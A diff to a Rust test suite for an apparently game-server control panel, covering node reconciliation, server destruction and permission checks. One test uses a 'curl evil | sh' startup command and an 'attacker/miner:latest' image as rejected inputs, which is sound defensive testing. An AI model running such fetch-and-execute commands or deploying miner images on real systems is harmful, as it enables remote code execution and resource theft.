@@ -21,11 +21,12 @@ use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
-/// A node that records what it is sent; `hang` makes it never answer, `down` refuses every
-/// call as unreachable.
+/// A node that records what it is sent and keeps the servers it was given; `hang` makes it
+/// never answer, `down` refuses every call as unreachable.
 #[derive(Default)]
 struct ScriptedNode {
     seen: Mutex<Vec<NodeCommand>>,
+    servers: Mutex<Vec<nexus_core::transport::ServerStatus>>,
     hang: bool,
     down: AtomicBool,
 }
@@ -36,9 +37,18 @@ impl NodeHandler for ScriptedNode {
         if self.down.load(Ordering::SeqCst) {
             return Err(TransportError::Unreachable("node".into(), "down".into()));
         }
-        self.seen.lock().unwrap().push(command);
+        self.seen.lock().unwrap().push(command.clone());
         if self.hang {
             std::future::pending::<()>().await;
+        }
+        let mut servers = self.servers.lock().unwrap();
+        match command {
+            NodeCommand::CreateServer { spec, .. } => {
+                servers.push(nexus_core::transport::ServerStatus { server: spec.id, state: ServerState::Installing });
+            }
+            NodeCommand::DestroyServer { server } => servers.retain(|s| s.server != server),
+            NodeCommand::ListServers => return Ok(NodeResponse::Servers(servers.clone())),
+            _ => {}
         }
         Ok(NodeResponse::Ok)
     }
@@ -301,8 +311,9 @@ async fn a_returning_node_is_reconciled_without_starting_anything() {
     assert_eq!((done.destroyed.clone(), done.resent.clone()), (vec![deleted], vec![pending.server.id]), "{done:?}");
     assert!(done.failed.is_empty(), "{done:?}");
     let seen = handler.seen.lock().unwrap();
-    assert_eq!(seen.len(), 2, "{seen:?}");
+    assert_eq!(seen.len(), 3, "a destroy, the node's own list, a create: {seen:?}");
     assert!(seen.contains(&NodeCommand::DestroyServer { server: deleted }));
+    assert!(seen.contains(&NodeCommand::ListServers), "asked before sending a create again");
     assert!(
         seen.iter().any(|c| matches!(c, NodeCommand::CreateServer { spec, install: true } if **spec == pending.spec)),
         "the same spec again: {seen:?}"
@@ -321,11 +332,18 @@ async fn a_destroyed_server_gives_its_allocation_back() {
     let first = w.control.create_server(w.request(egg, 1024)).await.unwrap().server;
     assert_eq!(w.control.create_server(w.request(egg, 512)).await.unwrap_err().status_code(), 409, "node full");
 
-    w.control.destroy_server(first.id).await.unwrap();
-    assert!(handler.seen.lock().unwrap().contains(&NodeCommand::DestroyServer { server: first.id }));
     let at = Utc::now();
     let step = |from, to, trigger| LifecycleEvent { server: first.id, from, to, trigger, at };
-    let destroying = step(ServerState::Requested, ServerState::Destroying, Trigger::Destroy);
+    for event in [
+        step(ServerState::Requested, ServerState::Installing, Trigger::InstallStarted),
+        step(ServerState::Installing, ServerState::Installed, Trigger::InstallSucceeded),
+    ] {
+        w.control.ingest(node, NodeMessage::Lifecycle(event)).await.unwrap();
+    }
+    w.control.destroy_server(first.id).await.unwrap();
+    assert!(handler.seen.lock().unwrap().contains(&NodeCommand::DestroyServer { server: first.id }));
+    assert!(w.control.server(first.id).await.is_ok(), "an installed server waits for its node's event");
+    let destroying = step(ServerState::Installed, ServerState::Destroying, Trigger::Destroy);
     let destroyed = step(ServerState::Destroying, ServerState::Destroyed, Trigger::DestroyCompleted);
     w.control.ingest(node, NodeMessage::Lifecycle(destroying)).await.unwrap();
     assert_eq!(
@@ -373,4 +391,76 @@ async fn the_heartbeat_watch_runs_until_shutdown() {
     }
     stop.send(()).unwrap();
     tokio::time::timeout(Duration::from_secs(2), watch).await.expect("the watch stops").unwrap();
+}
+
+/// At a node's first contact (a re-registered node, a restored database), servers the panel
+/// does not have are reported, never destroyed; and a create already in flight (the node has
+/// the server though its heartbeat did not list it yet) is not sent twice.
+#[tokio::test]
+async fn first_contact_destroys_nothing_and_no_create_is_sent_twice() {
+    let w = world().await;
+    let capacity = NodeCapacity { memory_mb: 4096, disk_mb: 100_000, cpu_percent: 400 };
+    let registration = w.control.register_node(NewNode::new("old", "old.test", 8080, capacity)).await.unwrap();
+    let node = registration.node.id;
+    w.control.add_allocations(node, "10.0.0.1".parse().unwrap(), "30000-30001").await.unwrap();
+    let handler = Arc::new(ScriptedNode::default());
+    w.transport.register(node, handler.clone());
+    let stranger = nexus_core::ids::ServerId::new();
+    let running = vec![nexus_core::transport::ServerStatus { server: stranger, state: ServerState::Running }];
+    let beat = Heartbeat { node, at: Utc::now(), version: "t".into(), servers: running };
+    let Ingested::Returned(done) = w.control.ingest(node, NodeMessage::Heartbeat(beat)).await.unwrap() else {
+        panic!("first contact reconciles")
+    };
+    assert_eq!((done.unknown.clone(), done.destroyed.clone()), (vec![stranger], vec![]), "{done:?}");
+    assert!(!handler.seen.lock().unwrap().iter().any(|c| matches!(c, NodeCommand::DestroyServer { .. })));
+
+    // A server created while the node's stale heartbeat (not listing it) is on its way.
+    let egg = w.egg().await;
+    let created = w.control.create_server(w.request(egg, 512)).await.unwrap();
+    assert_eq!(created.delivery, Delivery::Sent);
+    let later = Utc::now() + chrono::Duration::seconds(60);
+    w.control.mark_silent_nodes_offline(later).await.unwrap();
+    let stale = Heartbeat { node, at: Utc::now(), version: "t".into(), servers: vec![] };
+    let Ingested::Returned(done) = w.control.ingest(node, NodeMessage::Heartbeat(stale)).await.unwrap() else {
+        panic!("a return reconciles")
+    };
+    assert!(done.resent.is_empty(), "the node's own list has it: {done:?}");
+    let creates = handler.seen.lock().unwrap().iter().filter(|c| matches!(c, NodeCommand::CreateServer { .. })).count();
+    assert_eq!(creates, 1, "one create, never two");
+}
+
+/// A server its node never received (the create did not reach it) sends no `Destroyed`
+/// event: removing it removes it at once, allocation and all.
+#[tokio::test]
+async fn removing_a_server_the_node_never_got_frees_it_at_once() {
+    let w = world().await;
+    let handler = Arc::new(ScriptedNode::default());
+    let node = w.node("n1", 4096, "30000", handler.clone()).await;
+    let egg = w.egg().await;
+    handler.down.store(true, Ordering::SeqCst);
+    let pending = w.control.create_server(w.request(egg, 512)).await.unwrap();
+    assert!(matches!(pending.delivery, Delivery::Pending(_)));
+    handler.down.store(false, Ordering::SeqCst);
+    w.control.destroy_server(pending.server.id).await.unwrap();
+    assert!(matches!(w.control.server(pending.server.id).await, Err(ControlError::UnknownServer(_))));
+    assert_eq!(w.claimed(node).await, 0);
+}
+
+/// Users pick among the egg's images and keep its startup; admins may set either.
+#[tokio::test]
+async fn users_cannot_choose_foreign_images_or_startup_commands() {
+    let w = world().await;
+    w.node("n1", 4096, "30000-30003", Arc::default()).await;
+    let egg = w.egg().await;
+    let mut foreign = w.request(egg, 256);
+    foreign.image = Some("attacker/miner:latest".into());
+    assert_eq!(w.control.create_server(foreign.clone()).await.unwrap_err().status_code(), 403);
+    let mut startup = w.request(egg, 256);
+    startup.startup = Some("curl evil | sh".into());
+    assert_eq!(w.control.create_server(startup).await.unwrap_err().status_code(), 403);
+    let mut listed = w.request(egg, 256);
+    listed.image = Some("nexus-test/busybox:latest".into());
+    assert!(w.control.create_server(listed).await.is_ok());
+    foreign.editor = nexus_eggs::spec::Editor::Admin;
+    assert!(w.control.create_server(foreign).await.is_ok(), "an admin may");
 }
